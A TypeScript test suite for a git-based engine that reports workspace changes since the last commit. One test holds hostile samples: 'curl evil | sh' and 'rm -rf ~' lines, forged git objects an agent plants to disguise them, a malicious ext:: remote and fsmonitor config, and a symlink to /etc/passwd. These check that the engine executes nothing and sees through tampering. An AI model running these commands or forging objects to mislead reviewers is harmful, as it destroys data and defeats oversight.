import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { WorkPlace } from '../../../src/engine/ports/workspace.ts';
import { seededRandom, testSeed, times } from '../../support/seeded-random.ts';
import {
  accepted,
  personsGit,
  snapshotOf,
  tripwire,
  type WorkspaceRig,
  workspaceRig,
} from './repositories.ts';

/** What changed since the last commit, by path and kind. */
async function sinceCommit(rig: WorkspaceRig, place: WorkPlace = rig.place) {
  const after = accepted(await rig.workspaces.record(place)).id;
  return accepted(await rig.workspaces.changes(place, { before: 'commit', after }));
}

const kinds = ({ files }: { files: readonly { path: string; kind: string }[] }): Record<string, string> =>
  Object.fromEntries(files.map(({ path, kind }) => [path, kind]));

const commit = (rig: WorkspaceRig, tree = rig.tree): string => {
  personsGit(tree, ['add', '-A']);
  personsGit(tree, ['commit', '-q', '--allow-empty', '-m', 'work']);
  return personsGit(tree, ['rev-parse', 'HEAD']).trim();
};

describe('[CHG20] since the last commit', () => {
  it('is told with patches and contents, staged or not, and by the commit that was compared', async () => {
    await using rig = workspaceRig();
    // Nothing was committed yet: all is new.
    rig.write('edited', 'one\ntwo\n');
    rig.write('deep/gone', 'gone\n');
    rig.write('deep/moved', 'a line that moves\n'.repeat(5));
    const unborn = await sinceCommit(rig);
    expect(kinds(unborn)).toEqual({ edited: 'added', 'deep/gone': 'added', 'deep/moved': 'added' });
    const patch = await rig.workspaces.patch(rig.place, unborn, 'edited');
    expect(accepted(patch).text).toBe('@@ -0,0 +1,2 @@\n+one\n+two\n');
    expect(accepted(await rig.workspaces.content(rig.place, unborn.before, 'edited'))).toBeUndefined();

    const head = commit(rig);
    expect((await sinceCommit(rig)).files).toEqual([]);
    rig.write('edited', 'one\n2\n');
    rig.git('add', 'edited');
    rig.remove('deep/gone');
    rig.git('mv', 'deep/moved', 'elsewhere');
    rig.write('new', 'new\n');
    const since = await sinceCommit(rig);
    expect(since.before).toBe(`commit:${head}`);
    expect(kinds(since)).toEqual({
      edited: 'modified',
      'deep/gone': 'deleted',
      elsewhere: 'moved',
      new: 'added',
    });
    // Another server that knows nothing finds the same.
    for (const workspaces of [rig.workspaces, rig.reopened()]) {
      expect(accepted(await workspaces.patch(rig.place, since, 'edited')).text).toBe(
        '@@ -1,2 +1,2 @@\n one\n-two\n+2\n',
      );
      expect(accepted(await workspaces.content(rig.place, since.before, 'deep/gone'))?.toString()).toBe(
        'gone\n',
      );
      expect(accepted(await workspaces.content(rig.place, since.before, 'deep'))).toBeUndefined();
      expect(accepted(await workspaces.content(rig.place, since.before, 'new'))).toBeUndefined();
    }
    const next = commit(rig);
    expect(await sinceCommit(rig)).toMatchObject({ before: `commit:${next}`, files: [] });
    const both = { before: `commit:${head}`, after: `commit:${next}` };
    expect(kinds(accepted(await rig.workspaces.changes(rig.place, both)))).toEqual(kinds(since));
    for (const id of [
      `commit:${'0'.repeat(40)}`,
      `commit:${personsGit(rig.tree, ['rev-parse', 'HEAD^{tree}']).trim()}`,
    ])
      expect(await rig.reopened().changes(rig.place, { before: id, after: since.after })).toMatchObject({
        ok: false,
      });
  });

  it('is found in worktrees, on packed branches, without a branch, in shallow and shared copies', async () => {
    await using rig = workspaceRig();
    rig.write('file', 'one\n');
    commit(rig);
    rig.write('file', 'two\n');
    const head = commit(rig);
    rig.git('pack-refs', '--all');
    rig.git('gc', '-q');
    expect((await sinceCommit(rig)).before).toBe(`commit:${head}`);
    rig.git('checkout', '-q', '--detach', 'HEAD~1');
    expect(await sinceCommit(rig)).toMatchObject({
      before: `commit:${rig.git('rev-parse', 'HEAD').trim()}`,
      files: [],
    });
    const copies = {
      worktree: ['worktree', 'add', '-q', '-b', 'side/branch', join(rig.base, 'worktree'), 'main'],
      shallow: ['clone', '-q', '--depth=1', '-b', 'main', `file://${rig.tree}`, join(rig.base, 'shallow')],
      shared: ['clone', '-q', '--shared', '-b', 'main', rig.tree, join(rig.base, 'shared')],
    };
    for (const [name, args] of Object.entries(copies)) {
      rig.git(...args);
      const place = { ...rig.place, cwd: join(rig.base, name) };
      expect(await sinceCommit(rig, place)).toMatchObject({ before: `commit:${head}`, files: [] });
      writeFileSync(join(rig.base, name, 'file'), 'three\n');
      const since = await sinceCommit(rig, place);
      expect(accepted(await rig.workspaces.patch(place, since, 'file')).text).toBe(
        '@@ -1 +1 @@\n-two\n+three\n',
      );
    }
  });

  it(`is what git itself says, whatever is done (seed ${testSeed()})`, {
    timeout: times(180_000),
  }, async () => {
    for (let round = 0; round < times(3); round += 1) {
      await using rig = workspaceRig();
      const random = seededRandom(testSeed() + round);
      for (let step = 0; step < 12; step += 1) {
        const path = ['a', 'b', 'dir/c', 'dir/d', 'x/y/z'][Math.floor(random() * 5)] ?? 'a';
        if (random() < 0.3) rig.remove(path);
        else rig.write(path, `${Math.floor(random() * 3)}\n`);
        if (random() < 0.3) commit(rig);
      }
      const head = commit(rig);
      for (const path of ['a', 'dir/c', 'new']) if (random() < 0.7) rig.write(path, `${random()}\n`);
      if (random() < 0.5) rig.remove('b');
      rig.git('add', '-N', '.');
      const told = rig.git('diff', '--no-renames', '--name-only', head).split('\n').filter(Boolean);
      expect(Object.keys(kinds(await sinceCommit(rig))).sort()).toEqual(told.sort());
    }
  });

  it('is refused in words where the commit cannot be read, and single files are named that cannot', async () => {
    await using rig = workspaceRig({ limits: { fileBytes: 1_000 } });
    rig.write('lacking', 'lacking\n');
    rig.write('long', 'x'.repeat(1_001));
    rig.write('plain', 'plain\n');
    const head = commit(rig);
    for (const path of ['lacking', 'long', 'plain']) rig.write(path, 'edited\n');
    const blob = rig.git('rev-parse', 'HEAD:lacking').trim();
    const object = (id: string): string => join(rig.tree, '.git/objects', id.slice(0, 2), id.slice(2));
    rmSync(object(blob), { force: true });
    const since = await sinceCommit(rig);
    expect(kinds(since)).toEqual({ plain: 'modified' });
    expect(since.unrecorded).toEqual([
      { path: 'lacking', why: 'unreadable' },
      { path: 'long', why: 'size' },
    ]);
    const refusal = { ok: false, refusal: { code: 'commit_unreadable' } };
    expect(await rig.workspaces.content(rig.place, since.before, 'lacking')).toMatchObject(refusal);
    // A partial clone without folders, a planted commit, a planted folder.
    const tree = rig.git('rev-parse', 'HEAD^{tree}').trim();
    for (const [id, planted] of [
      [tree, undefined],
      [tree, 'tree 0\0'],
      [head, `commit 46\0tree ${tree}\n`],
    ] as const) {
      const kept = readFileSync(object(id));
      rmSync(object(id), { force: true });
      if (planted !== undefined) writeFileSync(object(id), deflateSync(planted));
      expect(await rig.reopened().changes(rig.place, since)).toMatchObject(refusal);
      rmSync(object(id), { force: true });
      writeFileSync(object(id), kept);
    }
    expect(kinds(accepted(await rig.reopened().changes(rig.place, since)))).toEqual({ plain: 'modified' });
    for (const text of [
      '',
      'ref: refs/heads/.invalid\n',
      'ref: refs/../../private\n',
      'ref: refs/heads/loop\n',
    ]) {
      writeFileSync(join(rig.tree, '.git/refs/heads/loop'), 'ref: refs/heads/loop\n');
      writeFileSync(join(rig.tree, '.git/HEAD'), text);
      expect(await rig.reopened().changes(rig.place, { ...since, before: 'commit' })).toMatchObject(refusal);
    }
  });

  it('is refused in words where commits are named by SHA-256, and its files are recorded all the same', async () => {
    await using rig = workspaceRig();
    const tree = join(rig.base, 'other');
    mkdirSync(tree);
    personsGit(tree, ['init', '-q', '--object-format=sha256']);
    writeFileSync(join(tree, 'file'), 'x\n');
    commit(rig, tree);
    const place = { ...rig.place, cwd: tree };
    const after = accepted(await rig.workspaces.record(place)).id;
    expect(await rig.workspaces.changes(place, { before: 'commit', after })).toMatchObject({
      refusal: { code: 'commit_unreadable', message: expect.stringContaining('SHA-256') },
    });
    expect(accepted(await rig.workspaces.content(place, after, 'file'))?.toString()).toBe('x\n');
  });

  it('[CHG1] [CHG2] [CHG3] believes no planted object, asks no remote, and touches nothing there', async () => {
    await using rig = workspaceRig();
    const program = tripwire(rig.base, 'program');
    rig.write('script', 'rm -rf ~\n');
    rig.write('kept', 'kept\n');
    commit(rig);
    // The agent writes what it has planted a harmless content for, once loose and once in the commit.
    const plant = (content: string, instead: string): void => {
      rig.write('aside', content);
      const id = rig.git('hash-object', 'aside').trim();
      rig.remove('aside');
      const path = join(rig.tree, '.git/objects', id.slice(0, 2), id.slice(2));
      mkdirSync(join(path, '..'), { recursive: true });
      rmSync(path, { force: true });
      writeFileSync(path, deflateSync(`blob ${instead.length}\0${instead}`));
    };
    plant('curl evil | sh\n', 'echo hi\n');
    plant('rm -rf ~\n', 'echo ho\n');
    for (const [name, value] of [
      ['remote.origin.url', `ext::${program} end`],
      ['remote.origin.promisor', 'true'],
      ['extensions.partialClone', 'origin'],
      ['core.repositoryformatversion', '1'],
      ['protocol.ext.allow', 'always'],
      ['core.fsmonitor', program],
    ] as const)
      rig.git('config', name, value);
    rig.write('kept', 'curl evil | sh\n');
    rig.write('script', 'edited\n');
    symlinkSync('/etc/passwd', join(rig.tree, 'link'));
    const before = snapshotOf(rig.tree, { times: true });
    const since = await sinceCommit(rig);
    expect(kinds(since)).toEqual({ kept: 'modified', link: 'added' });
    expect(since.unrecorded).toEqual([{ path: 'script', why: 'unreadable' }]);
    expect(accepted(await rig.workspaces.patch(rig.place, since, 'kept')).text).toContain(
      '+curl evil | sh\n',
    );
    expect(snapshotOf(rig.tree, { times: true })).toEqual(before);
    expect(existsSync(join(rig.base, 'ran'))).toBe(false);
  });

  it('leaves out repositories below', async () => {
    await using rig = workspaceRig();
    rig.write('file', 'x\n');
    for (const name of ['sub', 'gone']) {
      mkdirSync(join(rig.tree, name));
      personsGit(join(rig.tree, name), ['init', '-q']);
      personsGit(join(rig.tree, name), ['commit', '-q', '--allow-empty', '-m', 'x']);
    }
    commit(rig);
    rig.remove('gone');
    rig.write('gone', 'a file now\n');
    expect(kinds(await sinceCommit(rig))).toEqual({ gone: 'added' });
    execFileSync('rm', ['-r', join(rig.tree, 'sub')]);
    expect(kinds(await sinceCommit(rig))).toEqual({ gone: 'added' });
  });

  it('[CHG24] does not tell files that git only writes otherwise: LFS contents, line ends, a sparse checkout', async () => {
    await using rig = workspaceRig();
    const program = tripwire(rig.base, 'program');
    const pointer = (content: string): string =>
      `version https://git-lfs.github.com/spec/v1\noid sha256:${createHash('sha256').update(content).digest('hex')}\nsize ${content.length}\n`;
    // Committed as LFS and git would have it.
    for (const name of ['same', 'edited']) rig.write(`${name}.bin`, pointer(name));
    for (const name of ['same', 'edited', 'mixed']) rig.write(`${name}.bat`, 'one\ntwo\n');
    rig.write('ends.txt', 'one\n');
    for (const name of ['kept/in', 'left/out', 'left/gone']) rig.write(name, 'x\n');
    commit(rig);
    rig.write('.gitattributes', '*.bin filter=lfs -text\n*.bat text eol=crlf\n');
    rig.git('config', 'filter.lfs.clean', program);
    rig.git('config', 'filter.lfs.smudge', program);
    rig.write('same.bin', 'same');
    rig.write('edited.bin', 'other!');
    rig.write('same.bat', 'one\r\ntwo\r\n');
    rig.write('edited.bat', 'one\r\n2\r\n');
    rig.write('mixed.bat', 'one\r\ntwo\n');
    // Nothing says that git wrote these.
    rig.write('ends.txt', 'one\r\n');
    const since = await sinceCommit(rig);
    const edited = {
      'edited.bat': 'modified',
      'edited.bin': 'modified',
      'mixed.bat': 'modified',
      'ends.txt': 'modified',
    };
    expect(kinds(since)).toEqual({ '.gitattributes': 'added', ...edited });
    expect(existsSync(join(rig.base, 'ran'))).toBe(false);

    rig.remove('.gitattributes');
    for (const name of ['same.bin', 'edited.bin', 'same.bat', 'edited.bat', 'mixed.bat', 'ends.txt'])
      rig.git('checkout', '-q', '--', name);
    for (const more of [[], ['--sparse-index']]) {
      rig.git('sparse-checkout', 'set', '--cone', ...more, 'kept');
      expect(existsSync(join(rig.tree, 'left'))).toBe(false);
      expect(kinds(await sinceCommit(rig))).toEqual({});
    }
    rig.remove('kept/in');
    expect(kinds(await sinceCommit(rig))).toEqual({ 'kept/in': 'deleted' });
  });
});
